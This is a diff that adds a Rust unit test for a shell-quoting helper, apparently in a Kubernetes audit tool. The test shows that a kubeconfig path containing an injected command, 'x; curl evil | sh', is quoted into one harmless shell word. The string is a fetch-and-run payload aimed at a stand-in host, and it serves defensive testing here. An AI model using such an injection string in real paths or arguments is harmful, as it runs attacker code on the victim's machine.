@@ -121,3 +121,10 @@ fn the_text_escapes_what_the_cluster_named() {
     assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
     assert!(text.contains("audit failed"));
 }
+
+#[test]
+fn a_fix_names_a_hostile_kubeconfig_path_as_one_shell_word() {
+    assert_eq!(shell_quoted("/home/u/.kube/config"), "/home/u/.kube/config");
+    assert_eq!(shell_quoted("x; curl evil | sh"), "'x; curl evil | sh'");
+    assert_eq!(shell_quoted("it's"), "'it'\\''s'");
+}
